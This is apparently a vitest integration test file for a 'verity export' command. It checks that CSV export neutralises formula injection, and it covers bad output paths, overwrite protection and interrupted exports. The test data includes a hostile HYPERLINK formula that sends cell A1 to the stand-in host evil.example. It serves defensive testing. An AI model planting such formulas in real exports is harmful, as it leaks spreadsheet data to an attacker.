import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Client } from '@elastic/elasticsearch';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEsClient } from '../../src/es/client';
import { indexName } from '../../src/es/indices';
import { ExportInterruptedError, exportRun } from '../../src/runs/export/export-run';
import { runCli, spawnCli } from '../support/cli-process';
import { seedSyntheticRun } from '../support/synthetic-run';
import { deleteIndicesWithPrefix, SHARED_DATA, uniqueName } from '../support/test-env';

const FEVER = path.join(SHARED_DATA, 'dev', 'fever.jsonl');
const HOSTILE_CLAIM = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** `verity export` with hostile cell contents and output paths, as its own process on real Elasticsearch. */
describe('verity export against hostile inputs', () => {
  let client: Client;
  const prefix = uniqueName('export-hostile');
  const runId = 'hostile-run';
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'verity-export-hostile-'));
  const env = { ES_URL: process.env.ES_URL ?? 'http://127.0.0.1:9200', ES_INDEX_PREFIX: prefix };

  beforeAll(async () => {
    client = createEsClient({ url: env.ES_URL });
    await seedSyntheticRun(client, prefix, { runId, datasets: [{ name: 'fever', file: FEVER, sample: 3 }], methods: ['rag'], models: ['gpt-4o-mini'] });
    const verdicts = indexName(prefix, 'verdicts');
    const stored = (await client.search<Record<string, unknown>>({ index: verdicts, size: 1, query: { term: { runId } } })).hits.hits[0]!._source!;
    await client.index({ index: verdicts, id: 'hostile', document: { ...stored, workflowId: 'hostile', claimId: '@SUM(A1)', claim: HOSTILE_CLAIM }, refresh: 'wait_for' });
    // A claim of the run (an export holds only the sweep's own verifications).
    await client.index({ index: indexName(prefix, 'run-claims'), id: `${runId}/99`, document: { runId, ordinal: 99, claimId: '@SUM(A1)', dataset: stored.dataset, datasetPosition: 0, claim: HOSTILE_CLAIM, labelNorm: 'SUPPORTED' }, refresh: 'wait_for' });
  });

  afterAll(async () => {
    await deleteIndicesWithPrefix(client, prefix);
    await client.close();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  it('writes formula-like cells with a leading quote (CSV injection)', async () => {
    const out = path.join(tmp, 'run.csv');
    const result = await runCli(['export', runId, '--format', 'csv', '--out', out], env);
    expect(result.code, result.stderr).toBe(0);
    const csv = fs.readFileSync(out, 'utf8');
    expect(csv).toContain(`"'${HOSTILE_CLAIM.replace(/"/g, '""')}"`);
    expect(csv).toContain(",'@SUM(A1),");
    expect(csv.split('\n').flatMap((line) => line.split(',')).filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
  });

  it.each([
    ['a missing folder', () => path.join(tmp, 'missing', 'run.csv')],
    ['a directory', () => tmp],
    ['a full device', () => '/dev/full'],
  ])('says in one line that it cannot write to %s', async (_, target) => {
    for (const format of ['csv', 'jsonl']) {
      const result = await runCli(['export', runId, '--format', format, '--out', target()], env);
      expect(result.code).not.toBe(0);
      expect(result.stderr.trim().split('\n'), result.stderr).toHaveLength(1);
      expect(result.stderr).toMatch(/^verity: cannot write /);
      expect(result.stderr).not.toMatch(/\n\s+at /);
    }
  });

  it('refuses to overwrite an existing file without --force', async () => {
    const out = path.join(tmp, 'existing.jsonl');
    fs.writeFileSync(out, 'precious\n');
    const refused = await runCli(['export', runId, '--format', 'jsonl', '--out', out], env);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/exists.*--force/);
    expect(fs.readFileSync(out, 'utf8')).toBe('precious\n');
    const forced = await runCli(['export', runId, '--format', 'jsonl', '--out', out, '--force'], env);
    expect(forced.code, forced.stderr).toBe(0);
    expect(fs.readFileSync(out, 'utf8').trim().split('\n')).toHaveLength(4);
  });

  it('an interrupted export leaves neither the file nor a temporary one, and says interrupted; a re-run needs no --force', async () => {
    const dir = fs.mkdtempSync(path.join(tmp, 'interrupted-'));
    const out = path.join(dir, 'run.csv');
    const interrupt = new AbortController();
    await expect(exportRun(client, prefix, runId, 'csv', out, () => interrupt.abort(), interrupt.signal)).rejects.toThrow(new ExportInterruptedError(`export of run ${runId} interrupted; ${out} not written`));
    expect(fs.readdirSync(dir)).toEqual([]);
    const result = await runCli(['export', runId, '--format', 'csv', '--out', out], env);
    expect(result.code, result.stderr).toBe(0);
    expect(fs.readFileSync(out, 'utf8').trim().split('\n')).toHaveLength(5);
    expect(fs.readdirSync(dir)).toEqual(['run.csv']);
  });

  it('Ctrl-C during a CLI export of a large run: exit 130, "interrupted" in one line, no file and no temporary file left', async () => {
    const bigRun = 'big-run';
    await seedSyntheticRun(client, prefix, { runId: bigRun, datasets: [{ name: 'fever', file: FEVER }], methods: ['rag', 'mermaid', 'fire', 'toe'], models: ['m1', 'm2', 'm3', 'm4'] });
    const dir = fs.mkdtempSync(path.join(tmp, 'sigint-'));
    const out = path.join(dir, 'big.csv');
    const running = spawnCli(['export', bigRun, '--format', 'csv', '--out', out], env);
    // The temporary file exists once the export writes (its signal handlers are installed by then).
    const deadline = Date.now() + 60_000;
    while (!fs.readdirSync(dir).some((name) => name.endsWith('.part')) && running.child.exitCode === null && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 2));
    running.child.kill('SIGINT');
    const result = await running.exited;
    expect(result.code, result.stderr).toBe(130);
    expect(result.stderr.trim().split('\n')).toEqual([`verity: interrupted: export of run ${bigRun} interrupted; ${out} not written`]);
    expect(fs.readdirSync(dir)).toEqual([]);
  }, 120_000);
});
